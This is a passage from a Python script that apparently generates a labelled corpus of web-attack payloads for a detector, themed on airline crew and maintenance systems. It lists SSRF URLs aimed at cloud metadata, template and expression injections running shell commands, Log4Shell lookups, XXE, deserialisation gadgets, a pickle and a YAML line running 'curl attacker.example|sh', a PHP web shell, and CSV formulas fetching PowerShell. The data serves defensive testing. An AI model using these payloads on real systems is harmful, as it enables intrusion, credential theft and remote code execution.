# ssrf: weather-feed source, webhook, chart import, avatar/photo URL, HTML-to-PDF
# --------------------------------------------------------------------------------------

SSRF = [
    ("url-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("url-cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("url-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("url-cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("url-cloud-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("url-loopback-admin", "http://127.0.0.1:8080/admin"),
    ("url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A"),
    ("url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("url-file-scheme", "file:///etc/passwd"),
    ("url-loopback+decimal-ip", "http://2130706433/"),
    ("url-loopback+hex-ip", "http://0x7f000001:8500/v1/agent/self"),
    ("url-loopback+octal-ip", "http://0177.0.0.1/"),
    ("url-loopback+short-ip", "http://127.1/"),
    ("url-loopback-ipv6", "http://[::1]:9200/_cat/indices"),
    ("url-loopback-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/"),
    ("url-loopback-zero", "http://0.0.0.0:5000/"),
    ("url-dns-rebinding", "http://metadata.attacker.example/latest/meta-data/"),
    ("url-userinfo-confusion", "http://attacker.example@127.0.0.1/"),
    ("url-userinfo-confusion", "http://wx-feed.example@169.254.169.254/latest/meta-data/"),
    ("url-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data"),
    ("url-internal-actuator", "http://10.0.0.5:8080/actuator/env"),
    ("url-internal-couchdb", "http://internal-mro-db.local:5984/_all_dbs"),
    ("url-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("url-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("url-consul-kv", "http://localhost:8500/v1/kv/?recurse"),
    ("url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("url-cloud-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("url-cloud-metadata+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("url-loopback+enclosed-digits", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
    ("url-cloud-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("url-cloud-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("url-cloud-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("url-cloud-metadata+mixed-ip", "http://169.254.43518/latest/meta-data/"),
    ("url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Ccrew%40localhost%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("url-jar-scheme", "jar:http://attacker.example/x.zip!/a"),
    ("url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("url-cloud-metadata-ipv4-mapped-ipv6", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("url-internal-solr", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("unc-smb-leak", "\\\\203.0.113.9\\charts\\KSFO.pdf"),
    ("url-dns-loopback", "http://127.0.0.1.attacker.example:6379/"),
    ("html-to-pdf-iframe", '<iframe src="http://169.254.169.254/latest/meta-data/" width=800 height=600></iframe>'),
    ("html-to-pdf-file-link", '<link rel=stylesheet href="file:///etc/passwd">'),
    ("html-to-pdf-img", '<img src="http://127.0.0.1:9090/metrics">'),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-cloud-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/server-status"),
    ("plain-loopback-ipv6", "http://[::1]/"),
    ("plain-file-scheme", "file:///c:/windows/win.ini"),
]

SSRF_PATHS = ["latest/meta-data/", "latest/user-data", "latest/meta-data/iam/security-credentials/mro-ec2-role",
              "latest/api/token", "latest/dynamic/instance-identity/document"]


def tpl_ssrf(rng):
    host = rng.choice(["169.254.169.254", "[::ffff:169.254.169.254]", "0xa9fea9fe", "2852039166"])
    path = rng.choice(SSRF_PATHS)
    cls = "url-cloud-metadata" if host == "169.254.169.254" else "url-cloud-metadata+alt-ip"
    return cls, f"http://{host}/{path}"


# --------------------------------------------------------------------------------------
# code: server-side templates (report/e-mail templates with user text), expression
# languages, Log4Shell lookups, XML parsers, deserializers, prototype pollution, CSV export
# --------------------------------------------------------------------------------------

PICKLE_OS_SYSTEM = b"cos\nsystem\n(S'curl -s http://attacker.example/pk|sh'\ntR."

CODE = [
    ("jinja2-ssti-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-ssti-globals", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("jinja2-ssti-config", "{{ config.__class__.__init__.__globals__['os'].environ }}"),
    ("jinja2-ssti-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-ssti-loop", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja2-ssti-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("jinja2-ssti-namespace", "NOTAM A1234/24 E) RWY CLSD {{ namespace.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("twig-ssti-filter", "{{ ['id']|filter('system') }}"),
    ("twig-ssti-undefined-filter", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("freemarker-ssti-execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }'),
    ("freemarker-ssti-objectconstructor", '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}'),
    ("velocity-ssti-runtime", "RMK #set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("erb-ssti-backtick", "<%= `id` %>"),
    ("erb-ssti-system", "Crew msg <%= system('curl http://attacker.example/r | sh') %>"),
    ("smarty-ssti-if", "{if system('id')}{/if}"),
    ("mako-ssti-import", "${__import__('os').popen('id').read()}"),
    ("nunjucks-ssti-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("pug-ssti-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-ssti-require", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("spel-injection-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}__::.x"),
    ("spel-injection-ioutils", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("ognl-injection-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-injection-member-access", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el-injection-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("log4j-jndi-ldap", "${jndi:ldap://attacker.example:1389/Exploit}"),
    ("log4j-jndi-rmi", "N512UA ${jndi:rmi://203.0.113.44:1099/o}"),
    ("log4j-jndi+lower-lookup", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("log4j-jndi+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.2/z}"),
    ("log4j-jndi-dns-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("log4j-jndi-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/q}"),
    ("log4j-jndi+urlenc", url1("${jndi:ldap://attacker.example/u}")),
    ("log4j-jndi-ldaps-sys", "KSFO 121756Z ${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("log4j-jndi+unicode-escape", "\\u0024{jndi:ldap://attacker.example/v}"),
    ("xml-xxe-file", '<?xml version="1.0"?><!DOCTYPE notam [<!ENTITY x SYSTEM "file:///etc/passwd">]><notam><e>&x;</e></notam>'),
    ("xml-xxe-oob-parameter", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]><r/>'),
    ("xml-xxe-ssrf", '<!DOCTYPE loadsheet [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><loadsheet><zfw>&m;</zfw></loadsheet>'),
    ("xml-entity-expansion", '<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><b>&d;</b>'),
    ("xml-xinclude", '<flight xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></flight>'),
    ("xml-xxe-svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/shadow">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>'),
    ("java-deser-urldns+base64", b64b(java_urldns("deser.oob.attacker.example"))),
    ("php-deser-object", 'O:8:"Deferral":2:{' + php_s("file") + php_s("/var/www/html/wx.php") + php_s("data") + php_s('<?php system($_GET["c"]); ?>') + "}"),
    ("python-pickle+base64", b64b(PICKLE_OS_SYSTEM)),
    ("yaml-python-apply", "!!python/object/apply:os.system ['curl http://attacker.example/y | sh']"),
    ("yaml-snakeyaml-classloader", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml.jar"]]]]'),
    ("json-type-dotnet", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}'),
    ("json-type-jackson", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}]'),
    ("json-type-fastjson", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.44:1099/e","autoCommit":true}'),
    ("node-deser-iife", '{"remark":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("json-proto-pollution", '{"tail":"N512UA","__proto__":{"isAdmin":true}}'),
    ("json-constructor-pollution", '{"constructor":{"prototype":{"role":"dom"}}}'),
    ("query-proto-pollution", "__proto__[canReleaseAircraft]=true"),
    ("query-proto-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("json-proto-pollution-spawn-gadget", '{"tail":"N512UA","__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}'),
    ("csv-formula-hyperlink", '=HYPERLINK("https://attacker.example/?d="&A1&B1,"Open MEL 34-11-01")'),
    ("csv-formula-dde", "=cmd|'/c calc'!A1"),
    ("csv-formula-dde-plus", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p.ps1|iex'!A0"),
    ("csv-formula-dde-minus", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula-webservice", '=WEBSERVICE("https://attacker.example/leak?x="&ENCODEURL(C2))'),
    ("python-eval-import", "ZFW+__import__('os').system('id')"),
    ("node-eval-mainmodule", "61200+process.mainModule.require('child_process').execSync('id')"),
    ("php-eval-breakout", "\";system('id');//"),
    ("ruby-eval-interpolation", "#{`id`}"),
    ("groovy-script-execute", '"id".execute().text'),
    ("python-format-globals", "{user.__class__.__init__.__globals__}"),
    ("razor-ssti-process", '@System.Diagnostics.Process.Start("cmd.exe","/c calc")'),
    ("plain-log4j-jndi", "${jndi:ldap://attacker.example/a}"),
    ("plain-jinja2-config", "{{ config.items() }}"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("plain-proto-pollution", '{"__proto__":{"admin":true}}'),
    ("plain-jinja2-builtins", "{{ self.__init__.__globals__.__builtins__ }}"),
    ("plain-csv-dde", "=cmd|' /C calc'!A0"),
    ("plain-xxe-file", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
]

JNDI_PROTOS = ["ldap", "ldaps", "rmi", "dns", "iiop"]
JNDI_CARRIERS = ["N512UA ", "Crew msg: ", "METAR KSFO ", "SSR OTHS ", "WO 883421 ", ""]


def tpl_code(rng):
    proto = rng.choice(JNDI_PROTOS)
    host = rng.choice(["attacker.example", "x.attacker.example", "203.0.113.44", "198.51.100.2"])
    carrier = rng.choice(JNDI_CARRIERS)
    port = rng.choice(["", ":1389", ":1099", ":53"])
    return f"log4j-jndi-{proto}", f"{carrier}${{jndi:{proto}://{host}{port}/{rng.randint(100, 999)}}}"


# --------------------------------------------------------------------------------------
# nosqli: JSON bodies and bracketed query strings passed straight into MongoDB queries,
# $where strings built with concatenation, aggregation pipelines
# --------------------------------------------------------------------------------------

NOSQLI = [
    ("json-operator-ne", '{"tail": {"$ne": null}}'),
    ("json-auth-bypass-ne", '{"login": "dispatch01", "password": {"$ne": ""}}'),
    ("json-auth-bypass-gt", '{"crew_id": {"$gt": ""}, "pin": {"$gt": ""}}'),
    ("query-auth-bypass-ne", "login=dom&password[$ne]=x"),
    ("query-regex-enum", "login[$regex]=^adm&password[$ne]=1"),
    ("json-regex-enum", '{"pnr": {"$regex": "^A", "$options": "i"}}'),
    ("json-where-time", '{"$where": "sleep(5000) || true"}'),
    ("json-where-role", '{"tail": "N512UA", "$where": "this.role == \'admin\' || true"}'),
    ("where-js-breakout", "N512UA' || '1'=='1"),
    ("where-js-dos", "' || (function(){while(true){}})() || '"),
    ("where-js-blind", "x' || this.password.match(/^a/) || 'y"),
    ("json-operator-nin", '{"status": {"$nin": []}}'),
    ("json-or-exists", '{"$or": [{"role": "admin"}, {"role": {"$exists": true}}]}'),
    ("query-operator-gt", "reg[$gt]="),
    ("json-expr-function", '{"$expr": {"$function": {"body": "function(){ sleep(4000); return true }", "args": [], "lang": "js"}}}'),
    ("agg-lookup-injection", '[{"$lookup": {"from": "crew_users", "localField": "x", "foreignField": "x", "as": "leak"}}]'),
    ("json-couchdb-selector", '{"selector": {"_id": {"$gt": null}}}'),
    ("json-regex-password", '{"username": {"$eq": "admin"}, "password": {"$regex": "^p"}}'),
    ("query-regex-pnr", "pnr[$regex]=.*&last_name[$ne]=OBRIEN"),
    ("query-auth-bypass-ne+urlenc", "login=dom&password%5B%24ne%5D=x"),
    ("json-auth-bypass-ne+unicode-escape", '{"login":"admin","password":{"\\u0024ne":null}}'),
    ("json-where-substring", '{"$where": "function(){return this.pwd_hash.substring(0,1)==\'a\'}"}'),
    ("plain-json-ne", '{"$ne": null}'),
    ("plain-query-ne", "password[$ne]="),
    ("plain-json-gt", '{"$gt": ""}'),
]

NOSQL_FIELDS = ["tail", "crew_id", "pnr", "login", "station", "pairing"]
NOSQL_OPS = [("$ne", '""'), ("$gt", '""'), ("$regex", '"^.*"'), ("$exists", "true"), ("$nin", "[]")]


def tpl_nosqli(rng):
    f1, f2 = rng.sample(NOSQL_FIELDS, 2)
    op, val = rng.choice(NOSQL_OPS)
    return f"json-operator-{op[1:]}", f'{{"{f1}": {{"{op}": {val}}}, "{f2}": {{"{op}": {val}}}}}'


# --------------------------------------------------------------------------------------
# crlf: values copied into response headers, redirect locations, mail headers, SMTP
# dialogue and plain-text audit logs
# --------------------------------------------------------------------------------------

CRLF = [
    ("header-set-cookie", "N512UA\r\nSet-Cookie: session=attacker_fixed; Path=/"),
    ("header-location+urlenc", "KSFO%0d%0aLocation:%20https://attacker.example/"),
    ("header-response-splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-xff-spoof", "N512UA\r\nX-Forwarded-For: 127.0.0.1"),
    ("header-set-cookie+utf8-crlf", "%E5%98%8A%E5%98%8DSet-Cookie:%20crew_sso=fixed"),
    ("mail-bcc", "ops@airline.example\r\nBcc: list@attacker.example"),
    ("mail-subject-body", "Delay notice UA123\r\nCc: all-pax@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/refund>Claim your refund</a>"),
    ("mail-bcc+urlenc", "crew@airline.example%0ABcc:%20x@attacker.example"),
    ("log-forge-lf", "N512UA\n2024-03-12T17:56:01Z INFO user=dom action=RELEASE_AIRCRAFT tail=N512UA status=APPROVED"),
    ("log-forge-crlf", "KSFO\r\n[2024-03-12 18:02:11] AUDIT login success user=admin ip=10.0.0.1"),
    ("log-ansi-escape", "N37263\x1b[2J\x1b[1;1HWO 883421 signed off by QA"),
    ("log-forge-syslog", "MEL 34-11-01 closed\n<13>Mar 12 18:00:00 mro-app sudo: mxtech : TTY=pts/0 ; USER=root ; COMMAND=/bin/bash"),
    ("smtp-rcpt-injection", "ops@airline.example>\r\nRCPT TO:<dump@attacker.example>"),
    ("smtp-smuggling", "x@airline.example\r\n.\r\nMAIL FROM:<ceo@airline.example>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: urgent wire\r\n\r\nPay now.\r\n."),
    ("header-redirect-cookie+urlenc", "/crew/home%0d%0aSet-Cookie:%20crew_sso=fixed123"),
    ("header-body-injection+urlenc", "%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("header-set-cookie+urlenc2", "%250d%250aSet-Cookie:%20x=1"),
    ("header-x-accel-cr", "UA123\rX-Accel-Redirect: /internal/crew_export.csv"),
    ("header-content-disposition", 'loadsheet.pdf"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>'),
    ("log-forge-json", 'N512UA","level":"INFO","user":"admin","msg":"password reset ok'),
    ("header-unicode-line-separator", "N512UA\u2028X-Injected: 1"),
    ("request-splitting", "KSFO HTTP/1.1\r\nHost: localhost\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("mail-subject-bcc", "MEL extension approved\nBcc: spy@attacker.example"),
    ("mail-from-reply-to", "Jana Novak <jana@airline.example>\nReply-To: payroll@attacker.example"),
    ("log-forge-lf", "WO 883421 closed by tech7\n\nWARN 2024-03-12T18:10:00Z DOM override granted by j.smith - audit check skipped"),
    ("plain-crlf-cookie", "\r\nSet-Cookie: x=y"),
    ("plain-crlf-cookie+urlenc", "%0d%0aSet-Cookie:%20x=y"),
    ("plain-crlf-location+urlenc", "%0d%0aLocation:%20http://attacker.example"),
]

CRLF_CARRIERS = ["UA123", "N512UA", "KSFO", "pairing 4127", "WO 883421"]
CRLF_LOGS = ["INFO user=admin action=LOGIN result=OK", "AUDIT tail={t} status=RTS signed=QA",
             "INFO deferral {t} closed by DOM", "WARN fuel override accepted for {t}"]


def tpl_crlf(rng):
    c = rng.choice(CRLF_CARRIERS)
    line = rng.choice(CRLF_LOGS).format(t=rng.choice(["N512UA", "N37263", "N8706Q"]))
    nl = rng.choice(["\n", "\r\n"])
    ts = f"2024-03-{rng.randint(1, 28):02d}T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:00Z"
    return ("log-forge-lf" if nl == "\n" else "log-forge-crlf"), f"{c}{nl}{ts} {line}"


# --------------------------------------------------------------------------------------
# ldap-xpath: crew directory search/login (LDAP filter) and XML roster queries (XPath)
# --------------------------------------------------------------------------------------

LDAP_XPATH = [
    ("ldap-filter-auth-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-filter-truncation", "dom)(&)"),
    ("ldap-filter-group-probe", "*)(memberOf=cn=dispatch-admins,ou=groups,dc=airline,dc=example"),
    ("ldap-filter-blind-password", "dom*)(userPassword=a*"),
    ("ldap-filter-or-wildcard", "N512UA*)(|(objectClass=*"),
    ("ldap-filter-attribute-enum", "x)(|(cn=*)(description=*"),
    ("ldap-filter-auth-bypass+urlenc", url1("*)(uid=*))(|(uid=*")),
    ("ldap-filter-nullbyte-truncation", "admin))%00"),
    ("ldap-filter-close-or", "admin))(|(objectClass=*"),
    ("xpath-tautology", "' or '1'='1"),
    ("xpath-tautology", "fo_kim' or 1=1 or 'x'='y"),
    ("xpath-union-nodes", "'] | //crew/* | //x['"),
    ("xpath-blind-substring", "' or substring(//crew[1]/pin,1,1)='4' or 'a'='b"),
    ("xpath-blind-schema", "' or string-length(name(/*[1]))=6 or ''='"),
    ("xpath-contains-breakout", "') or ('1'='1"),
    ("xpath-blind-contains", "N512UA' or contains(//user/password,'a') or 'x'='"),
    ("xpath-oob-doc", "' and doc('http://attacker.example/x')/a or ''='"),
    ("xpath-numeric-tautology", "0 or 1=1"),
    ("xpath-tautology+urlenc", url1("' or '1'='1")),
    ("plain-ldap-wildcard", "*)(|(objectClass=*)"),
    ("plain-xpath-tautology", "' or ''='"),
    ("plain-ldap-auth-bypass", "admin)(|(password=*))"),
]

LDAP_USERS = ["dom", "fo_kim", "capt.oneill", "dispatch01", "mx_tech7", "purser.lefevre"]
LDAP_ATTRS = ["userPassword", "pinCode", "employeeNumber", "telephoneNumber"]


def tpl_ldap(rng):
    u = rng.choice(LDAP_USERS)
    a = rng.choice(LDAP_ATTRS)
    ch = rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    return "ldap-filter-blind-attribute", f"{u})({a}={ch}*"


# category, literal list, template function, number of template values wanted
CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 2),
    ("xss", XSS, tpl_xss, 2),
    ("cmdi", CMDI, tpl_cmdi, 2),
    ("traversal", TRAVERSAL, tpl_traversal, 2),
    ("ssrf", SSRF, tpl_ssrf, 2),
    ("code", CODE, tpl_code, 3),
    ("nosqli", NOSQLI, tpl_nosqli, 1),
    ("crlf", CRLF, tpl_crlf, 2),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap, 2),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, tpl, n_tpl in CATEGORIES:
        count = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            count += 1
        n_lit = count
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template cannot fill")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, n_lit + made, n_lit))

    for cat, cls, v in rows:
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value in {cat}: {v!r}")
        head = cls.split("+")[0]
        if "-" not in head:
            raise SystemExit(f"bad class {cls!r}")

    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with benign.open(encoding="utf-8") as fh:
            bvals = [json.loads(line)["value"] for line in fh]
        clash = [v for _, _, v in rows if v in bvals]
        if clash:
            raise SystemExit(f"values also in benign.jsonl: {clash[:3]!r}")

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print(f"{cat:12s} {n:4d}  literals {n_lit}")
    n_plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    n_enc = sum(1 for _, cls, _ in rows if "+" in cls)
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {total_lit}  plain {n_plain}  encoded {n_enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
